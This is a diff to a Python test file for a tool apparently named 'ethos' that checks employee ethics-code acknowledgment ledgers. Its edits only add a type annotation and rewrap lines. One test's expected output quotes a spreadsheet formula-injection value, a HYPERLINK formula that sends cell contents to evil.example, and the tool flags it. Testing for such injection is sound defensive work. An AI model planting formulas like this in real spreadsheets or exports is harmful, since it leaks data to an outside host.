@@ -73,7 +73,7 @@ def ledger(shop: dict[str, Any], name: str, *employees: list[str], edit: Any = N
         if edit:
             edit(row)
         writer.writerow(row)
-    path = shop["root"] / name
+    path: Path = shop["root"] / name
     path.write_text(buffer.getvalue(), encoding="utf-8")
     return path
 
@@ -104,7 +104,10 @@ def test_the_written_ledger_keeps_a_formula_company_name_as_text(shop: dict[str,
 def test_verify_accepts_a_good_ledger(shop: dict[str, Any]) -> None:
     result = verify(shop, ledger(shop, "good.csv", ANN, BOB))
     assert result.returncode == 0, result.stderr
-    assert result.stdout == f"good.csv: every signature names ethics-code.en.pdf ({shop['digest'][:12]}…)\n"
+    assert (
+        result.stdout
+        == f"good.csv: every signature names ethics-code.en.pdf ({shop['digest'][:12]}…)\n"
+    )
 
 
 def test_verify_reports_cells_a_spreadsheet_would_run(shop: dict[str, Any]) -> None:
@@ -112,7 +115,7 @@ def test_verify_reports_cells_a_spreadsheet_would_run(shop: dict[str, Any]) -> N
     result = verify(shop, ledger(shop, "formula.csv", ANN, evil))
     assert result.returncode == 1
     assert result.stderr == (
-        "formula.csv:3:1: employee_name: '=HYPERLINK(\"http://evil.example/?\"&A2,\"C…' starts "
+        'formula.csv:3:1: employee_name: \'=HYPERLINK("http://evil.example/?"&A2,"C…\' starts '
         "with '=', which a spreadsheet runs as a formula — write an apostrophe before it, as "
         "ethos does, so it stays text\n"
         "formula.csv:3:1: position: '@SUM(1+1)' starts with '@', which a spreadsheet runs as a "
@@ -298,7 +301,10 @@ def test_a_json_ledger_that_is_no_ledger_is_a_message(
     path.write_text(text)
     result = verify(shop, path)
     assert result.returncode == 1
-    assert result.stderr == f"odd.json:1:1: not an ethos acknowledgment ledger ({why})\n1 problem found.\n"
+    assert (
+        result.stderr
+        == f"odd.json:1:1: not an ethos acknowledgment ledger ({why})\n1 problem found.\n"
+    )
 
 
 def test_a_csv_without_the_ledger_columns_is_a_message(shop: dict[str, Any]) -> None:
@@ -368,7 +374,9 @@ def test_exact_messages_for_special_files(tmp_path: Path) -> None:
     )
 
 
-def test_a_fifo_as_manifest_json_counts_as_no_manifest(shop: dict[str, Any], tmp_path: Path) -> None:
+def test_a_fifo_as_manifest_json_counts_as_no_manifest(
+    shop: dict[str, Any], tmp_path: Path
+) -> None:
     out = tmp_path / "out"
     subprocess.run(["cp", "-a", str(shop["out"]), str(out)], check=True)
     manifest = out / shop["pdf"].parent.name / "manifest.json"
